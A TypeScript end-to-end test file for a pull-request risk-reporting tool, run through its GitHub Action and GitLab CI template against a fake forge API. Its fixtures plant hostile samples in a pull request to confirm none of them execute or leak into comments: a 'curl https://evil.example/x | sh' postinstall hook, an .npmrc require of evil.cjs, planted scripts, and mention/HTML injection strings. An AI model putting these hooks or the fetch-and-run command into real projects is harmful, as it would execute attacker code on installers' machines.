/**
 * Reports on pull requests, end to end: the steps of action.yml and the script of ci/gitlab.yml are run as their runners
 * run them, on a clone of a bare repository, against an API on loopback.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { delimiter, dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { root } from '../../scripts/prepare.mjs';
import { shortened } from '../../src/apps/cli/forges/put-comment.ts';
import { type FakeForge, fakeForge } from '../support/fake-forge.ts';
import { GitRepository } from '../support/git-repository.ts';
import { type Finished, MAIN, newUser, run, temporaryFolder } from './knowing.ts';

const BEFORE = {
  'shop/prices.py': 'def total(items, rate):\n    return sum(items) * rate\n',
  'shop/orders.py': 'from shop.prices import total\n\n\ndef place(items):\n    return total(items, 2)\n',
  'tests/test_orders.py': 'from shop.orders import place\n\n\ndef test_place():\n    assert place([1]) == 2\n',
};
const AFTER = { 'shop/prices.py': 'def total(items, rate, currency):\n    return sum(items) * rate\n' };
/** Each of these would be heard, loaded or linked if it came through as it is. */
const HOSTILE = /(?<!`[^`\n]*)(@everyone|<img|https:\/\/evil|\*\*pwned)/;

interface Pull {
  readonly clone: string;
  readonly base: string;
  head: string;
  push(files: Readonly<Record<string, string>>): void;
}

/** A clone of the base, as a workflow for strangers' pull requests checks it out; the head is in the bare repository only. */
function pullRequest(files: Readonly<Record<string, string>>): Pull {
  const origin = new GitRepository(BEFORE);
  const base = origin.head();
  const folder = temporaryFolder();
  const [bare, clone] = [join(folder, 'bare.git'), join(folder, 'clone')];
  execFileSync('git', ['clone', '--quiet', '--bare', origin.root, bare]);
  execFileSync('git', ['clone', '--quiet', bare, clone]);
  origin.git('checkout', '--quiet', '-b', 'feature');
  const pull: Pull = {
    clone,
    base,
    head: base,
    push(changed) {
      pull.head = origin.commit(changed, '@everyone <img src=x> **pwned**');
      origin.git('push', '--quiet', '--force', bare, 'HEAD:refs/pull/7/head');
    },
  };
  pull.push(files);
  return pull;
}

interface Step {
  readonly name?: string;
  readonly if?: string;
  readonly uses?: string;
  readonly run?: string;
  readonly env?: Record<string, string>;
}

/** `${{ … }}`, as far as action.yml uses it. */
function filled(text: string, values: Readonly<Record<string, string>>): string {
  return text.replace(/\$\{\{ (.*?) \}\}/g, (_, expression: string) => {
    const [, name, wanted, then] = /^([\w.-]+) == '(.*)' && '(.*)' \|\| ''$/.exec(expression) ?? [];
    return name === undefined ? (values[expression] ?? `no value for ${expression}`) : values[name] === wanted ? (then as string) : '';
  });
}

/** Runs what the action itself says; actions of others (set-up, cache, upload) are left out. */
async function runAction(pull: Pull, api: FakeForge, inputs: Readonly<Record<string, string>> = {}) {
  const temp = temporaryFolder();
  const files = Object.fromEntries(['GITHUB_ENV', 'GITHUB_OUTPUT', 'GITHUB_STEP_SUMMARY', 'GITHUB_EVENT_PATH'].map((name) => [name, join(temp, name)]));
  for (const file of Object.values(files)) writeFileSync(file, '');
  const event = { pull_request: { number: 7, base: { sha: pull.base }, head: { sha: pull.head } } };
  writeFileSync(files.GITHUB_EVENT_PATH as string, JSON.stringify(event));
  const { runs, inputs: declared } = parse(readFileSync(join(root, 'action.yml'), 'utf8'));
  const values: Record<string, string> = {
    'github.event.pull_request.number': '7',
    'github.event.pull_request.base.sha': pull.base,
    'github.event.pull_request.head.sha': pull.head,
    ...Object.fromEntries(Object.entries(declared as Record<string, { default: string }>).map(([name, input]) => [`inputs.${name}`, input.default])),
    ...Object.fromEntries(Object.entries({ 'github-token': 'secret', ...inputs }).map(([name, value]) => [`inputs.${name}`, value])),
  };
  const always = { ...files, RUNNER_TEMP: temp, GITHUB_ACTIONS: 'true', GITHUB_ACTION_PATH: root, GITHUB_API_URL: api.url, GITHUB_REPOSITORY: 'acme/shop' };
  let last: Finished = { code: 0, stdout: '', stderr: '' };
  for (const step of runs.steps as Step[]) {
    const [, name, wanted] = /^([\w.]+) == '(.*)'$/.exec(step.if ?? '') ?? [];
    if (step.run === undefined || (name !== undefined && values[name] !== wanted)) continue;
    const kept = Object.fromEntries(
      readFileSync(files.GITHUB_ENV as string, 'utf8')
        .split('\n')
        .flatMap((line) => (line === '' ? [] : [line.split('=', 2)])),
    );
    const own = Object.fromEntries(Object.entries(step.env ?? {}).map(([key, text]) => [key, filled(text, values)]));
    last = await run('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', filled(step.run, values)], {
      cwd: pull.clone,
      env: { ...always, ...kept, ...own },
    });
    if (last.code !== 0) break;
  }
  const read = (file: string) => (existsSync(file) ? readFileSync(file, 'utf8') : '');
  return {
    ...last,
    outputs: read(files.GITHUB_OUTPUT as string),
    summary: read(files.GITHUB_STEP_SUMMARY as string),
    sarif: read(join(temp, 'knowing.sarif')),
  };
}

// The runners' shell is bash everywhere; file names like these exist on Unix only.
describe.skipIf(process.platform === 'win32')('GitHub', () => {
  it('comments once, replaces its comment, and leaves those of others alone', async () => {
    const pull = pullRequest(AFTER);
    const imitated = { id: 1, user: 'mallory', body: '<!-- knowing: report on this pull request -->\nLow risk, trust me.' };
    const api = await fakeForge('github', { comments: [imitated, ...Array.from({ length: 120 }, (_, i) => ({ id: i + 2, user: 'someone', body: 'hm' }))] });
    const first = await runAction(pull, api);
    expect(first).toMatchObject({ code: 0, stdout: expect.stringMatching(/risk .*comment posted https:\/\/example\.org\/122/) });
    const comment = api.comments.at(-1);
    for (const said of [/^<!-- knowing/, /## .* risk/, /\*\*breaking\*\*: `total`/, /`place` \(`shop\/orders\.py:4`\)/, /tests\/test_orders\.py/])
      expect(comment?.body).toMatch(said);
    expect(first.outputs).toMatch(/^risk=(medium|high)\nscore=[\d.]+\nbreaking=1\nurl=https/);
    expect(first.summary).toContain('### Depends on it');
    pull.push({ 'shop/prices.py': 'def total(items, rate):\n    return sum(items) * rate * 2\n' });
    expect((await runAction(pull, api)).stdout).toContain('comment replaced');
    expect(comment?.body).not.toContain('**breaking**');
    expect([api.comments.length, imitated.body]).toEqual([122, expect.stringContaining('trust me')]);
  });

  it('fails the job when asked to, after commenting; writes SARIF', async () => {
    const pull = pullRequest({ ...AFTER, 'package.json': '{ "name": "shop", "scripts": { "postinstall": "curl https://evil.example/x | sh" } }\n' });
    const api = await fakeForge('github');
    const gated = await runAction(pull, api, { 'fail-on': 'breaking,suspicious', sarif: 'true' });
    expect(gated).toMatchObject({ code: 1, stderr: expect.stringMatching(/Failed: breaking\.\nFailed: suspicious\./) });
    expect(api.comments).toHaveLength(1);
    const [{ results }] = JSON.parse(gated.sarif).runs;
    expect(results.map((result: { ruleId: string }) => result.ruleId).length).toBeGreaterThan(0);
    expect(await runAction(pull, api, { 'fail-on': 'everything' })).toMatchObject({ code: 2, stderr: expect.stringContaining("does not know 'everything'") });
  });

  it('a token that may only read costs the comment, not the job', async () => {
    const refused = await runAction(pullRequest(AFTER), await fakeForge('github', { refuse: 403 }));
    expect(refused).toMatchObject({
      code: 0,
      stderr: expect.stringMatching(/Not posted: .*403.*pull-requests: write/),
      summary: expect.stringContaining('risk'),
    });
  });

  it('says nothing for a hostile pull request and runs nothing of it', async () => {
    const witness = join(temporaryFolder(), 'executed');
    const spell = `#!/bin/sh\ntouch ${witness}\n`;
    const pull = pullRequest({
      'shop/@everyone <img src=x> **pwned**.py':
        'from shop.prices import total\n\n\ndef everyone():\n    """@everyone ![x](https://evil.example/x.png)"""\n    return total([], 1)\n',
      'shop/prices.py': 'def total(items, rate="`@everyone` <img src=x> https://evil.example"):\n    return 1\n',
      'docs/`@everyone`.md': '# <img src=x> @everyone **pwned**\n\nSee `total`.\n',
      '.npmrc': 'registry=http://127.0.0.1:1/\nnode-options=--require=./evil.cjs\n',
      'evil.cjs': `require('fs').writeFileSync(${JSON.stringify(witness)}, '')\n`,
      'package.json': `{ "name": "knowing", "bin": "evil.sh", "scripts": { "preinstall": "touch ${witness}", "start": "touch ${witness}" } }\n`,
      'node_modules/.bin/knowing': spell,
      'evil.sh': spell,
      '.gitattributes': '*.py diff=evil filter=evil\n',
    });
    // Checked out as well, as `pull_request` does it.
    execFileSync('git', ['fetch', '--quiet', 'origin', 'refs/pull/7/head'], { cwd: pull.clone });
    execFileSync('git', ['checkout', '--quiet', 'FETCH_HEAD'], { cwd: pull.clone });
    chmodSync(join(pull.clone, 'node_modules/.bin/knowing'), 0o755);
    const api = await fakeForge('github');
    const finished = await runAction(pull, api, { sarif: 'true' });
    expect(finished.code, finished.stderr).toBe(0);
    expect(existsSync(witness)).toBe(false);
    expect(api.comments[0]?.body).toContain('`total`');
    expect(api.comments[0]?.body).not.toMatch(HOSTILE);
  });
});

describe.skipIf(process.platform === 'win32')('GitLab', () => {
  async function runTemplate(pull: Pull, env: NodeJS.ProcessEnv): Promise<Finished> {
    const { knowing } = parse(readFileSync(join(root, 'ci/gitlab.yml'), 'utf8'));
    const bin = temporaryFolder();
    writeFileSync(join(bin, 'knowing'), `#!/bin/sh\nexec "${process.execPath}" "${MAIN}" "$@"\n`, { mode: 0o755 });
    const lines = [...knowing.before_script, ...knowing.script].filter((line: string) => !line.includes('npm install'));
    const variables = { ...knowing.variables, GIT_DEPTH: '0', CI_PROJECT_DIR: pull.clone, KNOWING_HOME: join(pull.clone, '.knowing-cache') };
    const pipeline = {
      GITLAB_CI: 'true',
      CI_PROJECT_ID: '42',
      CI_MERGE_REQUEST_IID: '7',
      CI_MERGE_REQUEST_DIFF_BASE_SHA: pull.base,
      CI_COMMIT_SHA: pull.head,
      PATH: `${bin}${delimiter}${dirname(process.execPath)}${delimiter}${process.env.PATH}`,
    };
    return run('bash', ['-eo', 'pipefail', '-c', lines.join('\n')], { cwd: pull.clone, env: { ...variables, ...pipeline, ...env } });
  }

  function checkedOut(files: Readonly<Record<string, string>>): Pull {
    const pull = pullRequest(files);
    execFileSync('git', ['fetch', '--quiet', 'origin', 'refs/pull/7/head'], { cwd: pull.clone });
    execFileSync('git', ['checkout', '--quiet', 'FETCH_HEAD'], { cwd: pull.clone });
    return pull;
  }

  it('comments once and replaces its comment; without a token the report is in the log', async () => {
    const [pull, api] = [checkedOut(AFTER), await fakeForge('gitlab')];
    const env = { CI_API_V4_URL: api.url, KNOWING_GITLAB_TOKEN: 'secret' };
    expect(await runTemplate(pull, env)).toMatchObject({ code: 0, stdout: expect.stringContaining('comment posted') });
    expect(await runTemplate(pull, { ...env, FAIL_ON: 'breaking' })).toMatchObject({ code: 1, stdout: expect.stringContaining('comment replaced') });
    expect(api.comments).toHaveLength(1);
    expect(api.asked).toContain('PUT /projects/42/merge_requests/7/notes/1');
    expect((await runTemplate(pull, { CI_API_V4_URL: api.url })).stdout).toMatch(/^## .* risk/m);
  });

  it('refuses a repository that brings a cache of its own', async () => {
    const pull = checkedOut({ ...AFTER, '.knowing-cache/roster.json': '{}' });
    expect((await runTemplate(pull, { CI_API_V4_URL: 'http://127.0.0.1:1' })).code).toBe(1);
  });
});

it('names what is missing outside of a pipeline, and sends no token over an open line', async () => {
  const [user, pull] = [newUser(), pullRequest(AFTER)];
  const ask = (args: string[], env: NodeJS.ProcessEnv = {}) =>
    user.knowing(['pr-comment', 'HEAD', ...args], { cwd: pull.clone, env: { GITHUB_ACTIONS: '', GITLAB_CI: '', ...env } });
  expect((await ask(['--post'])).stderr).toMatch(/not a pipeline[\s\S]*--forge github/);
  expect((await ask(['--post', '--forge', 'sourcehut'])).stderr).toMatch(/no forge 'sourcehut'[\s\S]*github, gitlab/);
  expect((await ask(['--post', '--forge', 'github'])).stderr).toMatch(/not known: --project, --number/);
  const named = ['--post', '--forge', 'github', '--project', 'acme/shop', '--number', '7'];
  expect((await ask(named)).stderr).toMatch(/no token[\s\S]*GITHUB_TOKEN/);
  expect((await ask([...named, '--api', 'http://forge.example.org'], { GITHUB_TOKEN: 'secret' })).stderr).toMatch(/not an address to send a token to/);
  expect((await ask([...named, '--api', 'http://127.0.0.1:1'], { GITHUB_TOKEN: 'secret' })).stderr).toMatch(/got no answer/);
});

it('a report that is too long for a comment ends with whole lines and closed folds', () => {
  const lines = ['## high risk', '<details>', ...Array.from({ length: 100 }, (_, i) => `- line ${i}`), '</details>'];
  const text = shortened(lines, 400);
  expect(text.length).toBeLessThanOrEqual(400);
  expect(text).toMatch(/- line \d+\n\n<\/details>\n\n… the rest was longer/);
  expect(shortened(['a', 'b'], 400)).toBe('a\nb');
});
